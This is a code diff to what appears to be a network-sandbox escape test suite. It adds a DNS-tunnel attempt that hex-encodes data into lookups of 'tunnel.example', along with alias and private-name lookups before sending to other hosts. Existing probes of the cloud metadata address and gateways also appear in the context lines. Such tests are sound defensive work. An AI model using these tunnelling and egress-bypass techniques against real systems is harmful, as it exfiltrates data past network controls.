@@ -41,6 +41,13 @@ def datagram(to, port, data, **options):
     return [data]
 
 
+def look_up(name):
+    try:
+        socket.getaddrinfo(name, None, socket.AF_INET)
+    except OSError:
+        pass
+
+
 def raw(lab, data, *frames):
     s = packet_socket()
     for frame in frames:
@@ -83,6 +90,24 @@ escape("dns-udp")(lambda lab, m: datagram(lab["closed"]["ip"], 53, m))
 escape("dns-tcp")(lambda lab, m: connect(lab["closed"]["ip"], 53))
 escape("dns-tls")(lambda lab, m: connect(lab["closed"]["ip"], 853))
 escape("dns-https")(lambda lab, m: connect(lab["closed"]["ip"], 443))
+
+
+@escape("dns-tunnel")
+def dns_tunnel(lab, m):
+    label = m.hex()
+    look_up(label + ".tunnel.example")
+    return [label.encode()]
+
+
+def after_look_up(name, to, data):
+    look_up(name)
+    return datagram(to, 4000, data)
+
+
+escape("dns-private")(lambda lab, m: after_look_up("private.example", lab["neighbour"]["ip"], m))
+escape("dns-expired")(lambda lab, m: datagram(lab["expired"], 4000, m))
+escape("alias-neighbour")(lambda lab, m: after_look_up("alias.example", lab["neighbour"]["ip"], m))
+escape("alias-stranger")(lambda lab, m: after_look_up("allowed.example", lab["stranger"], m))
 escape("metadata")(lambda lab, m: connect("169.254.169.254", 80))
 escape("gateway")(lambda lab, m: datagram(lab["gateway"]["ip"], 4001, m))
 escape("gateway6")(lambda lab, m: datagram(lab["gateway"]["ip6"], 4001, m))
